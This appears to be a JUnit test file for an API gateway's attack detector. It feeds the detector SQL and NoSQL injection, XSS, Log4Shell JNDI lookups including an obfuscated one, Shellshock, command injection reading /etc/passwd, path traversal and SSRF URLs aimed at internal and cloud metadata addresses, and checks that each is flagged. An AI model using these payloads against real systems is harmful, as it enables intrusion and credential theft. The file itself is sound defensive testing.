package io.portcullis.engine.detect;

import io.portcullis.engine.net.NetworkPolicy;
import static org.assertj.core.api.Assertions.assertThat;

import io.portcullis.engine.model.ApiRequest;
import io.portcullis.engine.model.Detection;
import io.portcullis.engine.net.AddressList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class AttackDetectionTest {

    static final AttackDetection LEVEL_1 = AttackDetection.defaults();
    static final AttackDetection LEVEL_2 = AttackDetection.standard(2, AttackDetection.Mode.BLOCK, 100, AddressReputation.NONE);

    static ApiRequest.Builder request() {
        return ApiRequest.builder().id("t").route("r").path("/api/search")
                .headers(Map.of("user-agent", List.of("curl/8.5.0")));
    }

    @Test
    void everyPlaceIsReadAndNamedByItsParameterPath() {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("/payee/name", "<script>alert(1)</script>");
        body.put("/password/$ne", null);
        ApiRequest inspected = LEVEL_1.inspect(request()
                .query(Map.of("q", List.of("1 UNION SELECT password FROM users")))
                .headers(Map.of("user-agent", List.of("curl/8.5.0"), "x-trace", List.of("${jndi:ldap://a.example/x}"),
                        "cookie", List.of("theme=dark; sort=../../etc/passwd")))
                .body(body).build());

        assertThat(inspected.detections()).extracting(Detection::describe).containsExactlyInAnyOrder(
                "SQL_INJECTION at query/q", "EXPRESSION_INJECTION at header/x-trace", "PATH_TRAVERSAL at cookie/sort",
                "XSS at body/payee/name", "NOSQL_INJECTION at body/password/$ne");
        assertThat(inspected.attribute(AttackDetection.SCORE)).isEqualTo(500);
        assertThat(inspected.attribute(AttackDetection.MODE)).isEqualTo("block");
        assertThat(inspected.attribute(AttackDetection.THRESHOLD)).isEqualTo(100);
    }

    @Test
    void evidenceDescribesWhatMatchedWithoutTheValue() {
        ApiRequest inspected = LEVEL_1.inspect(request().query(Map.of("q", List.of("x' OR 'secret'='secret"))).build());

        assertThat(inspected.detections()).singleElement().satisfies(d -> {
            assertThat(d.score()).isEqualTo(100);
            assertThat(d.evidence()).doesNotContain("secret");
        });
    }

    @Test
    void credentialHeadersAreReadOnlyForLookups() {
        ApiRequest inspected = LEVEL_1.inspect(request().headers(Map.of("user-agent", List.of("curl/8.5.0"),
                "authorization", List.of("Bearer eyJhbGciOi--.x' OR 1=1"))).build());
        assertThat(inspected.detections()).isEmpty();

        ApiRequest lookup = LEVEL_1.inspect(request().headers(Map.of("user-agent", List.of("curl/8.5.0"),
                "authorization", List.of("Bearer ${jndi:ldap://a.example/x}"))).build());
        assertThat(lookup.detections()).extracting(Detection::kind).containsExactly("EXPRESSION_INJECTION");
    }

    @Test
    void weakSignsCountFromTheirParanoiaLevelOn() {
        ApiRequest bold = request().query(Map.of("note", List.of("<b>important</b>"))).headers(Map.of()).build();

        assertThat(LEVEL_1.inspect(bold).detections()).isEmpty();
        assertThat(LEVEL_2.inspect(bold).detections()).extracting(Detection::describe)
                .containsExactlyInAnyOrder("XSS at query/note", "BAD_BOT at header/user-agent");
    }

    @Test
    void attackToolsAreKnownByTheirUserAgent() {
        ApiRequest scanner = request().headers(Map.of("user-agent", List.of("Mozilla/5.0 (compatible; Nmap Scripting Engine)")))
                .build();

        assertThat(LEVEL_1.inspect(scanner).detections()).extracting(Detection::describe)
                .containsExactly("BAD_BOT at header/user-agent");
        ApiRequest shellshock = request().headers(Map.of("user-agent", List.of("() { :; }; /bin/bash -c 'id'"))).build();
        assertThat(LEVEL_1.inspect(shellshock).detections()).extracting(Detection::describe)
                .containsExactly("COMMAND_INJECTION at header/user-agent");
    }

    @Test
    void reputationListsNameHostileAddresses() {
        AttackDetection withList = AttackDetection.standard(1, AttackDetection.Mode.MONITOR, 100,
                AddressReputation.of(Map.of("tor-exits", () -> AddressList.of(List.of("198.51.100.0/24")))));

        ApiRequest listed = withList.inspect(request().peer(NetworkPolicy.OPEN.peer("198.51.100.7", 4000, null, false)).build());
        ApiRequest unlisted = withList.inspect(request().peer(NetworkPolicy.OPEN.peer("203.0.113.7", 4000, null, false)).build());

        assertThat(listed.detections()).extracting(Detection::describe).containsExactly("BAD_REPUTATION at client");
        assertThat(listed.attribute(AttackDetection.MODE)).isEqualTo("monitor");
        assertThat(unlisted.detections()).isEmpty();
    }

    @Test
    void ssrfReadsEveryNotationOfAnInternalAddress() {
        for (String url : List.of("http://2130706433/", "http://0x7f.1/", "http://0177.0.0.1/", "http://127.1:8080/",
                "http://[::ffff:169.254.169.254]/latest", "http://user@10.0.0.5/", "http://metadata.google.internal/",
                "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "http://10.0.0.1.nip.io/", "gopher://example.com:25/")) {
            assertThat(LEVEL_1.inspect(request().query(Map.of("url", List.of(url))).build()).detections())
                    .as(url).extracting(Detection::kind).containsExactly("SSRF");
        }
        assertThat(LEVEL_1.inspect(request().query(Map.of("url", List.of("https://8.8.8.8/dns", "https://bank.example:8443/a")))
                .build()).detections()).isEmpty();
    }

    @Test
    void log4jLookupsAreResolvedTheWayLog4jDoes() {
        assertThat(ExpressionInjectionDetector.resolveLookups("${${lower:j}${::-n}d${env:x:-i}:ldap://a/b}"))
                .isEqualTo("${jndi:ldap://a/b}");
    }

    @Test
    void aQuotedCommandLineIsNotAnInjectionButAChainedCommandIs() {
        assertThat(LEVEL_1.inspect(request().query(Map.of("q", List.of("git log --oneline | head -20"))).build())
                .detections()).isEmpty();
        assertThat(LEVEL_1.inspect(request().query(Map.of("q", List.of("report.pdf; c'a't /e\"t\"c/pas*"))).build())
                .detections()).extracting(Detection::kind).contains("COMMAND_INJECTION");
    }
}
